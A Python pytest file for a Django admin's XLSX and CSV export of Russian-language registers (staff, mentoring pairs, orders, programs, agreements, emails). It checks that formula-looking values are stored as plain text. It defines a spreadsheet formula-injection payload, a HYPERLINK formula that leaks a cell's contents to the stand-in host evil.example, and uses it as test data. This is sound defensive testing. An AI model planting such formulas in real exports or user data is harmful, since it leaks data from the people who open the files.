"""The Django admin exports every register (XLSX, CSV) with Russian headers, the admin's
filters applied and names that look like formulas kept as text."""

import datetime as dt
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from core.models import EmailStatus, NotificationKind, OutgoingEmail
from mentoring.models import PairStatus
from programs.models import ProgramStatus
from roadmap.models import AgreementPay, AgreementStatus, MentorAgreement, OrderStatus
from tests.factories import StaffMemberFactory, UserFactory
from tests.mentoring.factories import pair
from tests.programs.factories import fixed_pair, make_program
from tests.roadmap.factories import draft, esign_in_force

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1;"Нажмите")'
XLSX, CSV = "0", "1"


@pytest.fixture
def admin_client(db):
    client = Client()
    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    return client


def export(client, register: str, query: str = "", file_format: str = XLSX):
    """Press «Экспорт» on the register's change list (filtered by ``query``), choose a format."""
    url = reverse(f"admin:{register}_export") + query
    page = client.get(url)
    assert page.status_code == 200
    assert "Экспорт" in page.content.decode()
    response = client.post(url, {"resource": "0", "format": file_format})
    assert response.status_code == 200, response.content.decode()[:2000]
    return response


def sheet(response) -> list[list]:
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(response.content))
    return [[cell.value for cell in row] for row in workbook.active.iter_rows()]


def stored_as_text(response, value: str) -> bool:
    """The cell holding ``value`` is text with the apostrophe of ``safe_cell``, not a formula."""
    cells = [c for row in load_workbook(io.BytesIO(response.content)).active for c in row]
    found = [c for c in cells if isinstance(c.value, str) and value in c.value]
    assert found, value
    return all(c.data_type == "s" and not c.value.startswith("=") for c in found)


def as_dicts(rows: list[list]) -> list[dict]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_staff_register(admin_client, org, other_org):
    StaffMemberFactory(
        organization=org,
        last_name=EVIL,
        first_name="Анна",
        middle_name="Сергеевна",
        personnel_number="0042",
        email="anna@ds20.example",
        date_hired=dt.date(2020, 9, 1),
    )
    StaffMemberFactory(organization=other_org, last_name="Чужая")
    everyone = sheet(export(admin_client, "mentoring_staffmember"))
    assert everyone[0] == [
        "Фамилия",
        "Имя",
        "Отчество",
        "Табельный номер",
        "Должность",
        "Квалификационная категория",
        "Педагогический стаж, лет",
        "Дата приёма на работу",
        "Электронная почта",
        "Телефон",
        "Организация",
        "Работает",
    ]
    assert {row[0] for row in everyone[1:]} == {"'" + EVIL, "Чужая"}

    response = export(admin_client, "mentoring_staffmember", f"?organization__id__exact={org.pk}")
    [anna] = as_dicts(sheet(response))
    assert anna["Фамилия"] == "'" + EVIL
    assert anna["Должность"] == "Воспитатель"
    assert anna["Табельный номер"] == "0042"
    assert anna["Дата приёма на работу"] == dt.datetime(2020, 9, 1)
    assert anna["Организация"] == "МБДОУ «Детский сад №20»"
    assert anna["Работает"] == "да"
    assert stored_as_text(response, EVIL)


def test_staff_register_as_csv_for_russian_excel(admin_client, org):
    StaffMemberFactory(organization=org, last_name=EVIL, date_hired=dt.date(2020, 9, 1))
    response = export(admin_client, "mentoring_staffmember", file_format=CSV)
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())
    header, row = response.content.decode("utf-8-sig").splitlines()
    assert header.startswith("Фамилия;Имя;Отчество;Табельный номер;Должность;")
    assert row.startswith("\"'=HYPERLINK(")
    assert ";01.09.2020;" in row


def test_pairs_register(admin_client, org):
    mentor = StaffMemberFactory(organization=org, last_name=EVIL, first_name="Ирина")
    mentee = StaffMemberFactory(organization=org, last_name="Соколова", first_name="Арина")
    pair(org, [mentor], [mentee], status=PairStatus.FIXED)
    pair(org, [StaffMemberFactory(organization=org)], [mentee], status=PairStatus.PROPOSED)
    response = export(admin_client, "mentoring_pair", f"?status__exact={PairStatus.FIXED}")
    rows = sheet(response)
    assert rows[0][:6] == ["№", "Форма по составу участников", "Наставники", "Наставляемые",
                           "Запрос", "Статус"]  # fmt: skip
    [fixed] = as_dicts(rows)
    assert fixed["Наставники"] == "'" + EVIL + " Ирина Сергеевна"
    assert fixed["Наставляемые"] == "Соколова Арина Сергеевна"
    assert fixed["Статус"] == PairStatus.FIXED.label
    assert stored_as_text(response, EVIL)


def test_orders_register(admin_client, org, users):
    esign_in_force(org, users["curator"], users["director"])  # a signed order
    order = draft(org, users["curator"])
    order.title = EVIL
    order.save()
    everyone = sheet(export(admin_client, "roadmap_order"))
    assert len(everyone) == 3
    response = export(admin_client, "roadmap_order", f"?status__exact={OrderStatus.DRAFT}")
    rows = sheet(response)
    assert rows[0] == [
        "Номер",
        "Дата приказа",
        "Вид приказа",
        "Заголовок",
        "Статус",
        "Исполнитель",
        "Подписал",
        "Подписан",
        "Организация",
    ]
    [order] = as_dicts(rows)
    assert order["Заголовок"] == "'" + EVIL
    assert order["Статус"] == "Черновик"
    assert order["Исполнитель"] == users["curator"].full_name
    assert stored_as_text(response, EVIL)

    [signed] = as_dicts(sheet(export(admin_client, "roadmap_order", "?status__exact=signed")))
    assert signed["Номер"] == "1-од" and signed["Статус"] == "Подписан"
    assert isinstance(signed["Подписан"], dt.datetime)


def test_programs_register(admin_client, org, users):
    approved = make_program(
        fixed_pair(org, users["mentor"], users["mentee"]), status=ProgramStatus.APPROVED
    )
    approved.title = EVIL
    approved.save()
    make_program(fixed_pair(org, users["curator"], users["council"]))  # a draft
    response = export(admin_client, "programs_program", f"?status__exact={ProgramStatus.APPROVED}")
    rows = sheet(response)
    assert rows[0][:4] == ["Название", "Наставники", "Наставляемые", "Статус"]
    [program] = as_dicts(rows)
    assert program["Название"] == "'" + EVIL
    assert program["Наставники"] == users["mentor"].full_name
    assert program["Статус"] == "Утверждена приказом"
    assert program["Начало"] == dt.datetime.combine(approved.starts_on, dt.time())
    assert stored_as_text(response, EVIL)


def test_mentors_agreements_register(admin_client, org, users):
    mentor = StaffMemberFactory(organization=org, last_name=EVIL, first_name="Ирина")
    mentee = StaffMemberFactory(organization=org, last_name="Соколова", first_name="Арина")
    for status in (AgreementStatus.SIGNED, AgreementStatus.DRAFT):
        agreement = MentorAgreement.objects.create(
            organization=org,
            mentor=mentor,
            content="Адаптация молодого специалиста",
            starts_on=dt.date(2026, 9, 1),
            ends_on=dt.date(2027, 5, 31),
            form="традиционная",
            pay=AgreementPay.PERCENT,
            pay_amount=15,
            status=status,
            number=7 if status == AgreementStatus.SIGNED else None,
            created_by=users["curator"],
        )
        agreement.mentees.set([mentee])
    response = export(
        admin_client, "roadmap_mentoragreement", f"?status__exact={AgreementStatus.SIGNED}"
    )
    rows = sheet(response)
    assert rows[0][:4] == ["Номер", "Наставник", "Наставляемые", "Начало наставничества"]
    [signed] = as_dicts(rows)
    assert signed["Номер"] == 7
    assert signed["Наставник"] == "'" + EVIL + " Ирина Сергеевна"
    assert signed["Наставляемые"] == "Соколова Арина Сергеевна"
    assert signed["Оплата"] == "Процент должностного оклада"
    assert signed["Размер доплаты"] == 15
    assert signed["Статус"] == "Подписано сторонами"
    assert stored_as_text(response, EVIL)


def test_outgoing_letters_register(admin_client, org):
    for status, subject in ((EmailStatus.FAILED, EVIL), (EmailStatus.SENT, "Приказ подписан")):
        OutgoingEmail.objects.create(
            organization=org,
            to_email="anna@ds20.example",
            kind=NotificationKind.ORDER_SIGNED,
            subject=subject,
            body_text="Текст письма",
            status=status,
            attempts=5,
            last_error="-ERR mailbox unavailable",
        )
    response = export(admin_client, "core_outgoingemail", f"?status__exact={EmailStatus.FAILED}")
    rows = sheet(response)
    assert rows[0] == [
        "Создано",
        "Адрес",
        "Тема",
        "Вид",
        "Состояние",
        "Попыток",
        "Отправлено",
        "Последняя ошибка",
        "Организация",
    ]
    [letter] = as_dicts(rows)
    assert letter["Тема"] == "'" + EVIL
    assert letter["Состояние"] == EmailStatus.FAILED.label
    assert letter["Последняя ошибка"] == "'-ERR mailbox unavailable"
    assert letter["Попыток"] == 5
    assert stored_as_text(response, EVIL)


def test_the_change_list_offers_the_export_and_nothing_is_imported(admin_client, org):
    from django.contrib import admin

    StaffMemberFactory(organization=org)
    page = admin_client.get(reverse("admin:mentoring_staffmember_changelist")).content.decode()
    assert f'href="{reverse("admin:mentoring_staffmember_export")}' in page  # «Экспорт»
    assert '<option value="export_admin_action">' in page  # for the rows ticked
    url_names = {
        url.name for model_admin in admin.site._registry.values() for url in model_admin.get_urls()
    }
    assert "mentoring_staffmember_export" in url_names
    assert not [
        name for name in url_names if name and name.endswith(("_import", "_process_import"))
    ]
